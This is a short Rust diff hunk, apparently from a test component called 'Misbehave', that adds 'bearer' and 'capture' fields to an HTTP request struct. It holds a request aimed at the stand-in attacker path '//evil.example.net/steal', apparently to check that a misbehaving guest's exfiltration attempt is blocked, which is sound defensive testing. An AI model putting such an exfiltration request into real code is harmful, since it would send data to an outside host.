@@ -82,6 +82,8 @@ impl Guest for Misbehave {
                     path: "//evil.example.net/steal".into(),
                     body: None,
                     secret: None,
+                    bearer: None,
+                    capture: None,
                 };
                 service_config::service_http(&request)?;
             }
